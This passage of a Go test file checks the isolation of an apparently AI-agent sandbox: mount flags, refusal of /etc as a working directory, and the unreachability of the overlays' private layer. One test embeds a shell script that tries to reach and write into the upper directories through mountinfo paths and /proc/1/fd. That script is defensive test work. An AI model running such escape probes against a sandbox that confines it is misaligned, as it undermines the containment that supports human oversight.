		if !slices.Contains(opts, "rw") || fstype == "devpts" {
			continue
		}
		rw = append(rw, mnt)
		if !slices.Contains(opts, "nosuid") || !slices.Contains(opts, "nodev") {
			t.Errorf("%s (%s) is writable inside the run without nosuid and nodev: %s", mnt, fstype, f[5])
		}
	}
	for _, want := range []string{home, repo, filepath.Join(home, ".claude"), filepath.Join(repo, ".git")} {
		if !slices.Contains(rw, want) {
			t.Errorf("%s is not among the run's writable mounts %v", want, rw)
		}
	}
}

// The private layer holds the upper directories of the run's overlays: the
// run may write through the overlays, never to the layer itself. From inside,
// the command looks for it where it was mounted while the view was made
// (kernels before 6.15) and through the descriptor the init holds it by
// (6.15 and later, where overlayfs names its upper directories by it). Only
// the run's own overlays count: the host's (a container engine's) are in the
// view too, read-only.
func TestWallPrivateLayerIsReachableByNoPath(t *testing.T) {
	requireRoot(t)
	home := testHome(t)
	repo := filepath.Join(t.TempDir(), "repo")
	gitIn(t, home, home, "init", "-q", repo)
	r := runSpec(t, Spec{Command: []string{"sh", "-c", `
		echo home > "$HOME/written"
		grep -c . /proc/self/mountinfo >/dev/null || echo NO-MOUNTINFO
		for d in /tmp /run /dev/shm; do ls -A "$d/` + layerBase + `" 2>/dev/null && echo "REACHED $d"; done
		for u in $(awk -v h="$HOME" -v g="$PWD/.git" '$5 == h || $5 == g' /proc/self/mountinfo | grep -o 'upperdir=[^,]*' | cut -d= -f2); do
			echo "upper $u"
			ls -A "$u" >/dev/null 2>&1 && echo "REACHED $u"
			case $u in /proc/self/fd/*) rel=${u#/proc/self/fd/}; ls -A "/proc/1/fd/$rel" >/dev/null 2>&1 && echo "REACHED /proc/1/fd/$rel";; esac
			touch "$u/planted" 2>/dev/null && echo "PLANTED $u"
		done
		true`}, Dir: repo, Env: testEnv(home)}, nil)
	if r.code != 0 {
		t.Fatalf("exit %d: %s %s", r.code, r.stdout, r.stderr)
	}
	uppers := 0
	for _, line := range strings.Split(r.stdout, "\n") {
		switch {
		case strings.HasPrefix(line, "REACHED"), strings.HasPrefix(line, "PLANTED"), line == "NO-MOUNTINFO":
			t.Errorf("inside the run: %s", line)
		case strings.HasPrefix(line, "upper "):
			uppers++
			if detachedLayers() && !strings.HasPrefix(line, "upper /proc/self/fd/") {
				t.Errorf("on this kernel the layer is made detached, yet an overlay's %s", line)
			}
		}
	}
	// The home and the repository's git directory are overlays.
	if uppers < 2 {
		t.Errorf("the run saw %d overlays' upper directories, want the home's and the git directory's:\n%s", uppers, r.stdout)
	}
	if r.ending.HomeWrites != 1 {
		t.Errorf("the ending counts %d home writes, want the 1 written (%v)", r.ending.HomeWrites, r.ending.HomeSample)
	}
}

// A place refused is refused before anything is spawned: no init is left
// behind, and the command never runs.
func TestPlaceRefusalLeavesNoInit(t *testing.T) {
	requireRoot(t)
	home := testHome(t)
	before := childPids(t)
	_, err := Raise(context.Background(), Spec{Command: []string{"sh", "-c", "echo ran > " + filepath.Join(home, "ran")}, Dir: "/etc", Env: testEnv(home)})
	var pe *PlaceError
	if !errors.As(err, &pe) {
		t.Fatalf("Raise in /etc: %v; want a *PlaceError", err)
	}
	if after := childPids(t); !slices.Equal(before, after) {
		t.Errorf("children before Raise %v, after its refusal %v: the init was left behind", before, after)
	}
	if _, err := os.Stat(filepath.Join(home, "ran")); err == nil {
		t.Error("the command ran although its working directory was refused")
	}
}

// childPids are this process's children, alive or not yet reaped.
func childPids(t *testing.T) []string {
	t.Helper()
	tasks, err := filepath.Glob("/proc/self/task/*/children")
	if err != nil {
		t.Fatal(err)
	}
	var pids []string
	for _, f := range tasks {
		b, err := os.ReadFile(f)
		if err != nil {
			continue // a thread gone meanwhile
		}
		pids = append(pids, strings.Fields(string(b))...)
	}
	slices.Sort(pids)
	return pids
}
